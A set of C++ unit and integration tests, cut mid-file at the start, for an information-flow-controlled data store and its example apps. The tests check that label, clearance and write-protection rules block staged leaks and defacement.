  QueryOptions equals;
  equals.predicate = field_equals("city", "paris");
  EXPECT_EQ(ids(store_.query(kKernelPid, "profiles", equals).value()),
            (std::vector<std::string>{"u1"}));
  // ...so its negation MATCHES the record lacking the field (boolean
  // complement, not SQL NULL logic — the documented contract).
  QueryOptions negated;
  negated.predicate = negate(field_equals("city", "paris"));
  EXPECT_EQ(ids(store_.query(kKernelPid, "profiles", negated).value()),
            (std::vector<std::string>{"u2"}));
  // "Has the field with a different value" composes via field_exists.
  QueryOptions present_but_different;
  present_but_different.predicate = and_also(
      field_exists("city"), negate(field_equals("city", "paris")));
  EXPECT_TRUE(store_.query(kKernelPid, "profiles", present_but_different)
                  .value()
                  .empty());
}

TEST_F(QueryEngineTest, FieldExistsDistinguishesMissingFromPresent) {
  put(profile("u1", "amy", "paris"));
  Record no_city;
  no_city.collection = "profiles";
  no_city.id = "u2";
  no_city.owner = "bob";
  no_city.data["age"] = 30;
  ASSERT_TRUE(store_.put(kKernelPid, std::move(no_city)).ok());

  QueryOptions has_city;
  has_city.predicate = field_exists("city");
  EXPECT_EQ(ids(store_.query(kKernelPid, "profiles", has_city).value()),
            (std::vector<std::string>{"u1"}));
  QueryOptions lacks_city;
  lacks_city.predicate = negate(field_exists("city"));
  EXPECT_EQ(ids(store_.query(kKernelPid, "profiles", lacks_city).value()),
            (std::vector<std::string>{"u2"}));
}

}  // namespace
}  // namespace w5::store
