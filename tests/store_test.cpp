#include <gtest/gtest.h>

#include "store/labeled_store.h"
#include "store/query.h"

namespace w5::store {
namespace {

using difc::CapabilitySet;
using difc::Label;
using difc::LabelState;
using difc::minus;
using difc::ObjectLabels;
using difc::plus;
using difc::Tag;
using difc::TagPurpose;
using os::kKernelPid;
using os::Pid;

Record make_record(std::string collection, std::string id, std::string owner,
                   ObjectLabels labels, util::Json data) {
  Record record;
  record.collection = std::move(collection);
  record.id = std::move(id);
  record.owner = std::move(owner);
  record.labels = std::move(labels);
  record.data = std::move(data);
  return record;
}

class StoreTest : public ::testing::Test {
 protected:
  StoreTest() : store_(kernel_, clock_) {}

  void SetUp() override {
    sec_bob_ = kernel_.create_tag(kKernelPid, "sec(bob)",
                                  TagPurpose::kSecrecy).value();
    sec_amy_ = kernel_.create_tag(kKernelPid, "sec(amy)",
                                  TagPurpose::kSecrecy).value();
    wp_bob_ = kernel_.create_tag(kKernelPid, "wp(bob)",
                                 TagPurpose::kIntegrity).value();
    kernel_.add_global_capability(plus(sec_bob_));
    kernel_.add_global_capability(plus(sec_amy_));

    util::Json photo;
    photo["title"] = "sunset";
    photo["tags"] = util::Json::array({"beach", "vacation"});
    photo["rating"] = 5;
    ASSERT_TRUE(store_
                    .put(kKernelPid,
                         make_record("photos", "p1", "bob",
                                     {Label{sec_bob_}, Label{wp_bob_}},
                                     photo))
                    .ok());
    util::Json amy_photo;
    amy_photo["title"] = "mountain";
    amy_photo["rating"] = 4;
    ASSERT_TRUE(store_
                    .put(kKernelPid,
                         make_record("photos", "p2", "amy",
                                     {Label{sec_amy_}, {}}, amy_photo))
                    .ok());
    util::Json pub;
    pub["title"] = "public banner";
    pub["rating"] = 2;
    ASSERT_TRUE(
        store_.put(kKernelPid, make_record("photos", "p3", "site", {}, pub))
            .ok());
  }

  os::Kernel kernel_;
  util::SimClock clock_;
  LabeledStore store_;
  Tag sec_bob_, sec_amy_, wp_bob_;
};

TEST_F(StoreTest, PointGetWithRaiseContaminates) {
  const Pid app = kernel_.spawn_trusted("app", LabelState({}, {}, {}));
  auto record = store_.get(app, "photos", "p1", Raise::kYes);
  ASSERT_TRUE(record.ok());
  EXPECT_EQ(record.value().data.at("title").as_string(), "sunset");
  EXPECT_EQ(kernel_.find(app)->labels.secrecy(), Label{sec_bob_});
}

TEST_F(StoreTest, GetWithoutRaiseHidesSecretRecords) {
  const Pid app = kernel_.spawn_trusted("app", LabelState({}, {}, {}));
  const auto denied = store_.get(app, "photos", "p1", Raise::kNo);
  ASSERT_FALSE(denied.ok());
  // Within clearance (global sec(bob)+) the record's existence is
  // legitimately observable, so the error names the flow problem...
  EXPECT_EQ(denied.error().code, "flow.denied");
  // ...and the caller's label is untouched.
  EXPECT_EQ(kernel_.find(app)->labels.secrecy(), Label{});
  // A genuinely absent record is not_found.
  EXPECT_EQ(store_.get(app, "photos", "zzz", Raise::kNo).error().code,
            "store.not_found");
}

TEST_F(StoreTest, RecordOutsideClearanceIsInvisibleEvenWithRaise) {
  Tag hidden = kernel_.create_tag(kKernelPid, "sec(hidden)",
                                  TagPurpose::kSecrecy).value();
  util::Json data;
  data["x"] = 1;
  ASSERT_TRUE(store_
                  .put(kKernelPid, make_record("photos", "p9", "x",
                                               {Label{hidden}, {}}, data))
                  .ok());
  const Pid app = kernel_.spawn_trusted("app", LabelState({}, {}, {}));
  // No hidden+ capability anywhere: invisible.
  EXPECT_EQ(store_.get(app, "photos", "p9", Raise::kYes).error().code,
            "store.not_found");
}

TEST_F(StoreTest, PutCreateEnforcesNoLeak) {
  const Pid app = kernel_.spawn_trusted("app", LabelState({}, {}, {}));
  ASSERT_TRUE(store_.get(app, "photos", "p1", Raise::kYes).ok());
  // Contaminated with sec(bob): cannot create a public record.
  util::Json data;
  data["stolen"] = "bob's title";
  const auto status =
      store_.put(app, make_record("exfil", "e1", "mallory", {}, data));
  ASSERT_FALSE(status.ok());
  EXPECT_EQ(status.error().code, "flow.denied");
  // But may write it into a record carrying bob's label.
  EXPECT_TRUE(store_
                  .put(app, make_record("scratch", "s1", "mallory",
                                        {Label{sec_bob_}, {}}, data))
                  .ok());
}

TEST_F(StoreTest, PutCreateCannotForgeIntegrity) {
  const Pid app = kernel_.spawn_trusted("app", LabelState({}, {}, {}));
  util::Json data;
  const auto status = store_.put(
      app, make_record("photos", "fake", "bob", {{}, Label{wp_bob_}}, data));
  ASSERT_FALSE(status.ok());
}

TEST_F(StoreTest, OverwritePreservesLabelsAndBumpsVersion) {
  clock_.advance(100);
  util::Json newdata;
  newdata["title"] = "sunset v2";
  // Writer endorsed with wp(bob) and contaminated appropriately.
  const Pid editor = kernel_.spawn_trusted(
      "editor", LabelState({sec_bob_}, {wp_bob_}, {}));
  Record update = make_record("photos", "p1", "ignored",
                              {/*labels ignored on overwrite*/ {}, {}},
                              newdata);
  ASSERT_TRUE(store_.put(editor, update).ok());
  auto record = store_.get(kKernelPid, "photos", "p1");
  ASSERT_TRUE(record.ok());
  EXPECT_EQ(record.value().version, 2u);
  EXPECT_EQ(record.value().updated_micros, 100);
  EXPECT_EQ(record.value().labels.secrecy, Label{sec_bob_});  // unchanged
  EXPECT_EQ(record.value().owner, "bob");                     // unchanged
  EXPECT_EQ(record.value().data.at("title").as_string(), "sunset v2");
}

TEST_F(StoreTest, WriteProtectionBlocksVandals) {
  const Pid vandal =
      kernel_.spawn_trusted("vandal", LabelState({sec_bob_}, {}, {}));
  util::Json junk;
  junk["title"] = "defaced";
  EXPECT_FALSE(store_.put(vandal, make_record("photos", "p1", "bob", {}, junk))
                   .ok());
  EXPECT_FALSE(store_.remove(vandal, "photos", "p1").ok());
  EXPECT_EQ(store_.get(kKernelPid, "photos", "p1").value()
                .data.at("title").as_string(),
            "sunset");
}

TEST_F(StoreTest, RemoveRequiresWriteAuthority) {
  const Pid editor = kernel_.spawn_trusted(
      "editor", LabelState({sec_bob_}, {wp_bob_}, {}));
  EXPECT_TRUE(store_.remove(editor, "photos", "p1").ok());
  EXPECT_EQ(store_.get(kKernelPid, "photos", "p1").error().code,
            "store.not_found");
}

TEST_F(StoreTest, QueryReturnsOnlyClearedRecords) {
  // App cleared for bob only (global plus exists for both, so restrict by
  // removing amy's global... instead build a fresh kernel-free check):
  const Pid app = kernel_.spawn_trusted("app", LabelState({}, {}, {}));
  auto all = store_.query(app, "photos");
  ASSERT_TRUE(all.ok());
  // Global t+ for bob and amy means clearance covers p1,p2,p3.
  EXPECT_EQ(all.value().size(), 3u);
  // The caller is now contaminated with the join.
  EXPECT_EQ(kernel_.find(app)->labels.secrecy(),
            (Label{sec_bob_, sec_amy_}));
}

TEST_F(StoreTest, QueryWithoutRaiseSeesOnlyCurrentLabel) {
  const Pid app = kernel_.spawn_trusted("app", LabelState({}, {}, {}));
  auto visible = store_.query(app, "photos", {}, Raise::kNo);
  ASSERT_TRUE(visible.ok());
  ASSERT_EQ(visible.value().size(), 1u);  // only the public record
  EXPECT_EQ(visible.value()[0].id, "p3");
  EXPECT_EQ(kernel_.find(app)->labels.secrecy(), Label{});
}

TEST_F(StoreTest, QueryHonorsOwnerIndexLimitAndPredicate) {
  auto bobs = store_.query(kKernelPid, "photos",
                           QueryOptions{.owner = "bob"});
  ASSERT_TRUE(bobs.ok());
  ASSERT_EQ(bobs.value().size(), 1u);
  EXPECT_EQ(bobs.value()[0].id, "p1");

  auto limited = store_.query(kKernelPid, "photos", QueryOptions{.limit = 2});
  ASSERT_TRUE(limited.ok());
  EXPECT_EQ(limited.value().size(), 2u);

  auto rated = store_.query(
      kKernelPid, "photos",
      QueryOptions{.predicate = field_between("rating", 4, 5)});
  ASSERT_TRUE(rated.ok());
  EXPECT_EQ(rated.value().size(), 2u);
}

TEST_F(StoreTest, OwnerPaginationReturnsSmallestKeysFirst) {
  // Regression: by_owner used to be an insertion-ordered vector, and the
  // per-shard offset+limit cap was applied while walking it — so a shard
  // holding more than `cap` of one owner's records contributed its first
  // *inserted* cap keys, not its smallest, and the post-hoc merge-sort
  // silently dropped rows from the page. Inserting in descending id
  // order makes insertion order the exact inverse of key order.
  os::Kernel kernel;
  util::SimClock clock;
  LabeledStore store(kernel, clock);
  util::Json d;
  for (int i = 199; i >= 0; --i) {
    char id[8];
    std::snprintf(id, sizeof id, "r%03d", i);
    ASSERT_TRUE(
        store.put(kKernelPid, make_record("photos", id, "bob", {}, d)).ok());
  }
  auto page = store.query(kKernelPid, "photos",
                          QueryOptions{.limit = 5, .owner = "bob"});
  ASSERT_TRUE(page.ok());
  ASSERT_EQ(page.value().size(), 5u);
  for (int i = 0; i < 5; ++i) {
    char id[8];
    std::snprintf(id, sizeof id, "r%03d", i);
    EXPECT_EQ(page.value()[i].id, id) << "page dropped a smaller key";
  }
  // Deep pages stay complete too: walking offset pages must enumerate
  // every record exactly once, in key order.
  std::vector<std::string> seen;
  for (std::size_t offset = 0;; offset += 7) {
    auto p = store.query(kKernelPid, "photos",
                         QueryOptions{.limit = 7, .offset = offset,
                                      .owner = "bob"});
    ASSERT_TRUE(p.ok());
    if (p.value().empty()) break;
    for (const auto& record : p.value()) seen.push_back(record.id);
  }
  ASSERT_EQ(seen.size(), 200u);
  EXPECT_TRUE(std::is_sorted(seen.begin(), seen.end()));
  EXPECT_EQ(std::adjacent_find(seen.begin(), seen.end()), seen.end());
}

TEST_F(StoreTest, CountRaisesCallerLikeQuery) {
  // Regression: count()/list_ids() read at full secrecy_clearance() but
  // never raised the caller's label — the returned number was
  // contaminated by records above the caller's current secrecy (§3.5).
  // They now mirror query()'s Raise::kYes contract.
  os::Kernel kernel;
  util::SimClock clock;
  LabeledStore store(kernel, clock);
  const Tag s1 =
      kernel.create_tag(kKernelPid, "s1", TagPurpose::kSecrecy).value();
  const Tag s2 =
      kernel.create_tag(kKernelPid, "s2", TagPurpose::kSecrecy).value();
  util::Json d;
  ASSERT_TRUE(
      store.put(kKernelPid, make_record("c", "1", "u1", {Label{s1}, {}}, d))
          .ok());
  ASSERT_TRUE(
      store.put(kKernelPid, make_record("c", "2", "u2", {Label{s2}, {}}, d))
          .ok());
  ASSERT_TRUE(store.put(kKernelPid, make_record("c", "3", "u3", {}, d)).ok());

  const Pid app = kernel.spawn_trusted(
      "app", LabelState({}, {}, CapabilitySet{plus(s1)}));
  EXPECT_EQ(store.count(app, "c").value(), 2u);
  // The count included the s1-labeled record, so the caller now carries
  // its join — exactly what query(Raise::kYes) would have done.
  EXPECT_EQ(kernel.find(app)->labels.secrecy(), Label{s1});

  const Pid lister = kernel.spawn_trusted(
      "lister", LabelState({}, {}, CapabilitySet{plus(s1)}));
  EXPECT_EQ(store.list_ids(lister, "c").value(),
            (std::vector<std::string>{"1", "3"}));
  EXPECT_EQ(kernel.find(lister)->labels.secrecy(), Label{s1});
}

TEST_F(StoreTest, ApplyWalRehomesOwnerIndexOnOwnerChange) {
  // Snapshot/WAL overlap can replay a put whose key existed in the
  // snapshot under a different owner (remove + recreate straddling the
  // checkpoint boundary). The by_owner index must follow the new owner
  // instead of keeping the stale snapshot entry.
  util::Json d;
  util::Json op;
  op["op"] = "store.put";
  op["record"] = make_record("photos", "p1", "amy", {}, d).to_json();
  ASSERT_TRUE(store_.apply_wal(op).ok());  // p1 was bob's before replay

  const auto amy = store_.export_owned_by("amy");
  ASSERT_EQ(amy.size(), 2u);  // re-homed p1 plus her own p2
  EXPECT_EQ(amy[0].id, "p1");
  EXPECT_EQ(amy[1].id, "p2");
  EXPECT_TRUE(store_.export_owned_by("bob").empty());
}

TEST_F(StoreTest, CountIsClearanceBounded) {
  // A process without amy's plus capability must not count her record.
  os::Kernel kernel;
  util::SimClock clock;
  LabeledStore store(kernel, clock);
  const Tag s1 =
      kernel.create_tag(kKernelPid, "s1", TagPurpose::kSecrecy).value();
  const Tag s2 =
      kernel.create_tag(kKernelPid, "s2", TagPurpose::kSecrecy).value();
  util::Json d;
  ASSERT_TRUE(
      store.put(kKernelPid, make_record("c", "1", "u1", {Label{s1}, {}}, d))
          .ok());
  ASSERT_TRUE(
      store.put(kKernelPid, make_record("c", "2", "u2", {Label{s2}, {}}, d))
          .ok());
  ASSERT_TRUE(store.put(kKernelPid, make_record("c", "3", "u3", {}, d)).ok());

  const Pid app = kernel.spawn_trusted(
      "app", LabelState({}, {}, CapabilitySet{plus(s1)}));
  EXPECT_EQ(store.count(app, "c").value(), 2u);         // s2 invisible
  EXPECT_EQ(store.count(kKernelPid, "c").value(), 3u);  // kernel sees all
  EXPECT_EQ(store.list_ids(app, "c").value(),
            (std::vector<std::string>{"1", "3"}));
}

TEST_F(StoreTest, QueryChargesOnlyVisibleResults) {
  os::Kernel kernel;
  util::SimClock clock;
  LabeledStore store(kernel, clock);
  const Tag hidden =
      kernel.create_tag(kKernelPid, "h", TagPurpose::kSecrecy).value();
  util::Json d;
  for (int i = 0; i < 10; ++i) {
    ASSERT_TRUE(store
                    .put(kKernelPid,
                         make_record("c", "hid" + std::to_string(i), "x",
                                     {Label{hidden}, {}}, d))
                    .ok());
  }
  ASSERT_TRUE(store.put(kKernelPid, make_record("c", "pub", "y", {}, d)).ok());

  os::ResourceContainer box("app", {.memory_bytes = 5});
  const Pid app = kernel.spawn_trusted("app", LabelState({}, {}, {}), &box);
  auto result = store.query(app, "c");
  ASSERT_TRUE(result.ok());
  EXPECT_EQ(result.value().size(), 1u);
  // Only 1 memory unit charged — the 10 hidden records cost nothing the
  // app could observe.
  EXPECT_EQ(box.usage().memory_bytes, 1);
}

TEST_F(StoreTest, PutChargesDiskQuota) {
  os::ResourceContainer box("app", {.disk_bytes = 30});
  const Pid app = kernel_.spawn_trusted("app", LabelState({}, {}, {}), &box);
  util::Json small;
  small["x"] = "y";
  EXPECT_TRUE(store_.put(app, make_record("c", "1", "u", {}, small)).ok());
  util::Json big;
  big["x"] = std::string(100, 'a');
  EXPECT_EQ(store_.put(app, make_record("c", "2", "u", {}, big)).error().code,
            "quota.exceeded");
}

TEST_F(StoreTest, RejectsInvalidRecords) {
  EXPECT_EQ(store_.put(kKernelPid, make_record("", "x", "u", {}, {}))
                .error().code,
            "store.invalid");
  EXPECT_EQ(store_.put(kKernelPid, make_record("c", "", "u", {}, {}))
                .error().code,
            "store.invalid");
}

TEST_F(StoreTest, SnapshotRoundTrip) {
  const auto snapshot = store_.to_json();
  os::Kernel kernel2;
  auto tags = difc::TagRegistry::from_json(kernel_.tags().to_json());
  ASSERT_TRUE(tags.ok());
  kernel2.tags() = std::move(tags).value();
  util::SimClock clock2;
  LabeledStore store2(kernel2, clock2);
  ASSERT_TRUE(store2.load_json(snapshot).ok());
  EXPECT_EQ(store2.total_records(), store_.total_records());
  auto record = store2.get(kKernelPid, "photos", "p1");
  ASSERT_TRUE(record.ok());
  EXPECT_EQ(record.value().labels.secrecy, Label{sec_bob_});
  EXPECT_EQ(record.value().data.at("title").as_string(), "sunset");
  EXPECT_EQ(store2.to_json().dump(), snapshot.dump());
  // Owner index was rebuilt.
  EXPECT_EQ(store2.query(kKernelPid, "photos", QueryOptions{.owner = "amy"})
                .value().size(),
            1u);
}

TEST_F(StoreTest, LoadJsonRejectsCorruption) {
  LabeledStore store(kernel_, clock_);
  EXPECT_FALSE(store.load_json(util::Json("bad")).ok());
  auto dup = util::Json::parse(
      R"({"records":[
        {"collection":"c","id":"1","owner":"u","labels":{"secrecy":[],"integrity":[]},"data":{},"version":1,"updated":0},
        {"collection":"c","id":"1","owner":"u","labels":{"secrecy":[],"integrity":[]},"data":{},"version":1,"updated":0}]})");
  ASSERT_TRUE(dup.ok());
  EXPECT_FALSE(store.load_json(dup.value()).ok());
  auto bad_version = util::Json::parse(
      R"({"records":[{"collection":"c","id":"1","owner":"u","labels":{"secrecy":[],"integrity":[]},"data":{},"version":0,"updated":0}]})");
  ASSERT_TRUE(bad_version.ok());
  EXPECT_FALSE(store.load_json(bad_version.value()).ok());
}

TEST(QueryPredicateTest, FieldCombinators) {
  Record record;
  record.data["name"] = "bob";
  record.data["age"] = 30;
  record.data["tags"] = util::Json::array({"a", "b"});
  record.data["bio"] = "likes sci-fi novels";

  EXPECT_TRUE(field_equals("name", "bob")(record));
  EXPECT_FALSE(field_equals("name", "amy")(record));
  EXPECT_FALSE(field_equals("age", "30")(record));  // number != string
  EXPECT_TRUE(field_between("age", 18, 65)(record));
  EXPECT_FALSE(field_between("age", 40, 65)(record));
  EXPECT_FALSE(field_between("name", 0, 100)(record));
  EXPECT_TRUE(array_contains("tags", "a")(record));
  EXPECT_FALSE(array_contains("tags", "z")(record));
  EXPECT_FALSE(array_contains("name", "bob")(record));
  EXPECT_TRUE(field_contains("bio", "sci-fi")(record));
  EXPECT_FALSE(field_contains("bio", "westerns")(record));

  EXPECT_TRUE(and_also(field_equals("name", "bob"),
                       field_between("age", 18, 65))(record));
  EXPECT_FALSE(and_also(field_equals("name", "amy"),
                        field_between("age", 18, 65))(record));
  EXPECT_TRUE(or_else(field_equals("name", "amy"),
                      array_contains("tags", "b"))(record));
  EXPECT_TRUE(negate(field_equals("name", "amy"))(record));
}

}  // namespace
}  // namespace w5::store
