// Integration tests: the paper's example applications running end-to-end
// on the platform, across users and policies.
#include <gtest/gtest.h>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"

namespace w5::apps {
namespace {

using net::Method;
using platform::Provider;
using platform::ProviderConfig;

class AppsTest : public ::testing::Test {
 protected:
  AppsTest() : provider_(ProviderConfig{}, clock_) {}

  void SetUp() override {
    register_standard_apps(provider_);
    for (const char* user : {"bob", "alice", "charlie"}) {
      ASSERT_TRUE(provider_.signup(user, std::string(user) + "pw").ok());
      sessions_[user] =
          provider_.login(user, std::string(user) + "pw").value();
    }
    // Everyone grants the core apps write access to their own data and
    // uses the friend-list declassifier (the "casual user" setup).
    for (const char* user : {"bob", "alice", "charlie"}) {
      ASSERT_EQ(provider_
                    .http(Method::kPost, "/policy",
                          R"({"declassifier":"std/friends",
                              "write_grants":["photoco/photos","devA/crop",
                                              "blogco/blog","socialco/social",
                                              "datingco/dating"]})",
                          sessions_[user])
                    .status,
                200);
    }
  }

  net::HttpResponse as(const std::string& user, Method method,
                       const std::string& target,
                       const std::string& body = {}) {
    return provider_.http(method, target, body, sessions_.at(user));
  }

  util::SimClock clock_;
  Provider provider_;
  std::map<std::string, std::string> sessions_;
};

TEST_F(AppsTest, PhotoUploadListViewLifecycle) {
  auto upload = as("bob", Method::kPost, "/dev/photoco/photos/upload?id=p1",
                   R"({"title":"sunset","caption":"on the beach",
                       "pixels":["abcdef","ghijkl","mnopqr"],"rating":5})");
  EXPECT_EQ(upload.status, 201) << upload.body;

  auto list = as("bob", Method::kGet, "/dev/photoco/photos/list");
  EXPECT_EQ(list.status, 200) << list.body;
  EXPECT_NE(list.body.find("sunset"), std::string::npos);

  auto view = as("bob", Method::kGet, "/dev/photoco/photos/view?id=p1");
  EXPECT_EQ(view.status, 200);
  EXPECT_NE(view.body.find("beach"), std::string::npos);

  // Unknown action and missing photo.
  EXPECT_EQ(as("bob", Method::kGet, "/dev/photoco/photos/nonsense").status,
            404);
  EXPECT_EQ(as("bob", Method::kGet, "/dev/photoco/photos/view?id=zz").status,
            404);
}

TEST_F(AppsTest, IndependentCropModuleEditsPhoto) {
  ASSERT_EQ(as("bob", Method::kPost, "/dev/photoco/photos/upload?id=p1",
               R"({"title":"t","caption":"","rating":0,
                   "pixels":["abcdef","ghijkl","mnopqr"]})")
                .status,
            201);
  // devA's crop module, a different developer, edits bob's photo under
  // bob's write grant.
  auto crop = as("bob", Method::kGet, "/dev/devA/crop?id=p1&w=2&h=2");
  EXPECT_EQ(crop.status, 200) << crop.body;
  EXPECT_NE(crop.body.find(R"(["ab","gh"])"), std::string::npos);

  // Charlie cannot crop bob's photo: no wp(bob) on his requests.
  auto denied = as("charlie", Method::kGet, "/dev/devA/crop?id=p1&w=1&h=1");
  EXPECT_NE(denied.status, 200);
}

TEST_F(AppsTest, BlogRendersEscapedHtml) {
  ASSERT_EQ(as("bob", Method::kPost, "/dev/blogco/blog/post?id=1",
               R"({"title":"Hello <world>","text":"first & post"})")
                .status,
            201);
  auto page = as("bob", Method::kGet, "/dev/blogco/blog/page");
  EXPECT_EQ(page.status, 200);
  EXPECT_NE(page.body.find("Hello &lt;world&gt;"), std::string::npos);
  EXPECT_NE(page.body.find("first &amp; post"), std::string::npos);
  EXPECT_EQ(page.headers.get("Content-Type").value_or("").find("text/html"),
            0u);
}

TEST_F(AppsTest, SocialProfileVisibilityFollowsFriendList) {
  ASSERT_EQ(as("bob", Method::kPost, "/dev/socialco/social/update",
               R"({"name":"Bob","interests":["sci-fi","hiking"]})")
                .status,
            200);
  ASSERT_EQ(as("bob", Method::kPost,
               "/dev/socialco/social/befriend?friend=alice")
                .status,
            200);

  // Alice (friend) sees bob's profile; charlie does not.
  EXPECT_EQ(as("alice", Method::kGet,
               "/dev/socialco/social/profile?user=bob").status,
            200);
  EXPECT_EQ(as("charlie", Method::kGet,
               "/dev/socialco/social/profile?user=bob").status,
            403);
  // Friend list itself follows the same policy.
  EXPECT_EQ(as("alice", Method::kGet,
               "/dev/socialco/social/friends?user=bob").status,
            200);
  EXPECT_EQ(as("charlie", Method::kGet,
               "/dev/socialco/social/friends?user=bob").status,
            403);
  // Idempotent befriending.
  EXPECT_NE(as("bob", Method::kPost,
               "/dev/socialco/social/befriend?friend=alice").body
                .find("already"),
            std::string::npos);
}

TEST_F(AppsTest, RecommenderDigestsFriendsContentForOwnerOnly) {
  // Alice posts content; bob befriends alice; bob asks for a digest.
  ASSERT_EQ(as("alice", Method::kPost, "/dev/photoco/photos/upload?id=a1",
               R"({"title":"mountain hiking","caption":"alps","rating":4,
                   "pixels":[]})")
                .status,
            201);
  ASSERT_EQ(as("alice", Method::kPost, "/dev/blogco/blog/post?id=b1",
               R"({"title":"sci-fi reviews","text":"dune"})")
                .status,
            201);
  ASSERT_EQ(as("bob", Method::kPost, "/dev/socialco/social/update",
               R"({"name":"Bob","interests":["hiking"]})")
                .status,
            200);
  ASSERT_EQ(as("bob", Method::kPost,
               "/dev/socialco/social/befriend?friend=alice").status,
            200);
  // Alice must befriend bob too: the digest carries sec(alice), and her
  // friend-list declassifier must approve bob.
  ASSERT_EQ(as("alice", Method::kPost,
               "/dev/socialco/social/befriend?friend=bob").status,
            200);

  auto digest = as("bob", Method::kGet, "/dev/recsys/digest?n=2");
  EXPECT_EQ(digest.status, 200) << digest.body;
  EXPECT_NE(digest.body.find("mountain hiking"), std::string::npos);
  // Hiking matches bob's interests, so the photo outranks the blog post.
  const auto photo_pos = digest.body.find("mountain hiking");
  const auto post_pos = digest.body.find("sci-fi reviews");
  EXPECT_LT(photo_pos, post_pos);

  // Charlie cannot fetch bob's digest even if he tries: it would carry
  // alice's tag (and bob's friends data tag), and he is approved by
  // neither.
  auto denied = as("charlie", Method::kGet, "/dev/recsys/digest");
  EXPECT_NE(denied.status, 200);
}

TEST_F(AppsTest, ChameleonHidesInterestsPerViewer) {
  ASSERT_EQ(as("bob", Method::kPost, "/dev/socialco/social/update",
               R"({"name":"Bob",
                   "interests":["sci-fi","hiking"],
                   "hide":{"sci-fi":["alice"]}})")
                .status,
            200);
  ASSERT_EQ(as("bob", Method::kPost,
               "/dev/socialco/social/befriend?friend=alice").status,
            200);
  ASSERT_EQ(as("bob", Method::kPost,
               "/dev/socialco/social/befriend?friend=charlie").status,
            200);

  // Alice (a love interest) does not see sci-fi; charlie does.
  auto for_alice =
      as("alice", Method::kGet, "/dev/chameleonco/chameleon?user=bob");
  ASSERT_EQ(for_alice.status, 200) << for_alice.body;
  EXPECT_EQ(for_alice.body.find("sci-fi"), std::string::npos);
  EXPECT_NE(for_alice.body.find("hiking"), std::string::npos);

  auto for_charlie =
      as("charlie", Method::kGet, "/dev/chameleonco/chameleon?user=bob");
  ASSERT_EQ(for_charlie.status, 200);
  EXPECT_NE(for_charlie.body.find("sci-fi"), std::string::npos);

  // Bob sees everything.
  auto for_bob = as("bob", Method::kGet, "/dev/chameleonco/chameleon");
  EXPECT_NE(for_bob.body.find("sci-fi"), std::string::npos);
}

TEST_F(AppsTest, MashupKeepsAddressesInside) {
  ASSERT_EQ(provider_
                .http(Method::kPost, "/data/addressbook/bob",
                      R"({"mom":"12 elm st","dentist":"9 oak ave"})",
                      sessions_["bob"])
                .status,
            201);

  // Track what reaches the "external internet".
  std::vector<std::string> external_urls;
  provider_.set_external_fetcher(
      [&](const std::string& url) -> util::Result<std::string> {
        external_urls.push_back(url);
        return std::string("tiles");
      });

  auto map = as("bob", Method::kGet, "/dev/mashupco/addressmap");
  EXPECT_EQ(map.status, 200) << map.body;
  EXPECT_NE(map.body.find("12 elm st"), std::string::npos);  // bob sees pins
  ASSERT_EQ(external_urls.size(), 1u);
  EXPECT_EQ(external_urls[0].find("elm"), std::string::npos);

  // The leak variant reads the book first, then tries to call out.
  auto leak = as("bob", Method::kGet, "/dev/mashupco/addressmap?leak=1");
  EXPECT_EQ(leak.status, 200);
  EXPECT_NE(leak.body.find(R"("leak_allowed":false)"), std::string::npos);
  EXPECT_NE(leak.body.find("perimeter.denied"), std::string::npos);
  // Still exactly one external call: the leak attempt never got out.
  EXPECT_EQ(external_urls.size(), 1u);
}

TEST_F(AppsTest, DatingUsesCustomMetric) {
  ASSERT_EQ(as("bob", Method::kPost, "/dev/socialco/social/update",
               R"({"name":"Bob","interests":["sci-fi"],
                   "city":"boston","age":30})")
                .status,
            200);
  ASSERT_EQ(as("alice", Method::kPost, "/dev/socialco/social/update",
               R"({"name":"Alice","interests":["sci-fi"],
                   "city":"boston","age":31})")
                .status,
            200);
  ASSERT_EQ(as("charlie", Method::kPost, "/dev/socialco/social/update",
               R"({"name":"Charlie","interests":["golf"],
                   "city":"dallas","age":55})")
                .status,
            200);

  // Under friends-only policies the match list carries strangers' tags
  // and the perimeter blocks it — dating requires opting profiles in.
  EXPECT_EQ(as("bob", Method::kGet, "/dev/datingco/dating/matches").status,
            403);
  for (const char* user : {"bob", "alice", "charlie"}) {
    ASSERT_EQ(provider_
                  .http(Method::kPost, "/policy",
                        R"({"declassifier":"std/public",
                            "write_grants":["socialco/social",
                                            "datingco/dating"]})",
                        sessions_[user])
                  .status,
              200);
  }
  auto matches = as("bob", Method::kGet, "/dev/datingco/dating/matches");
  ASSERT_EQ(matches.status, 200) << matches.body;
  // Alice (shared interest + same city + small age gap) ranks first.
  EXPECT_LT(matches.body.find("alice"), matches.body.find("charlie"));

  // Bob uploads a metric that *only* values small age gaps... inverted:
  // big penalty makes charlie terrible, alice still first. Make a metric
  // that values nothing but city to check the behavior changes:
  ASSERT_EQ(as("bob", Method::kPost, "/dev/datingco/dating/metric",
               R"({"shared_interest":0,"same_city":0,
                   "age_gap_penalty":-1.0})")
                .status,
            200);
  // Negative penalty rewards age gaps: charlie now wins.
  auto inverted = as("bob", Method::kGet, "/dev/datingco/dating/matches");
  ASSERT_EQ(inverted.status, 200);
  EXPECT_LT(inverted.body.find("charlie"), inverted.body.find("alice"));
}

TEST_F(AppsTest, ForkedAppServesUsersImmediately) {
  // devB forks the photo app (paper §2) and bob uses it by URL with no
  // re-upload of data — the decoupling of apps from data.
  auto fork = provider_.modules().fork("photoco/photos@1.0", "devB",
                                       "betterphotos");
  ASSERT_TRUE(fork.ok());
  ASSERT_EQ(as("bob", Method::kPost, "/dev/photoco/photos/upload?id=p1",
               R"({"title":"original","caption":"","rating":0,"pixels":[]})")
                .status,
            201);
  // Grant the fork write access (it is a distinct module path).
  ASSERT_EQ(as("bob", Method::kPost, "/policy",
               R"({"declassifier":"std/friends",
                   "write_grants":["devB/betterphotos"]})")
                .status,
            200);
  auto list = as("bob", Method::kGet, "/dev/devB/betterphotos/list");
  EXPECT_EQ(list.status, 200);
  EXPECT_NE(list.body.find("original"), std::string::npos);
}

TEST_F(AppsTest, AppsListShowsRegisteredModules) {
  auto apps = provider_.http(Method::kGet, "/apps");
  for (const char* id :
       {"photoco/photos@1.0", "devA/crop@1.0", "blogco/blog@1.0",
        "socialco/social@1.0", "recsys/digest@1.0",
        "chameleonco/chameleon@1.0", "mashupco/addressmap@1.0",
        "datingco/dating@1.0"}) {
    EXPECT_NE(apps.body.find(id), std::string::npos) << id;
  }
}

}  // namespace
}  // namespace w5::apps
