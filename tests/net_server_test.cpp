#include <gtest/gtest.h>

#include <thread>
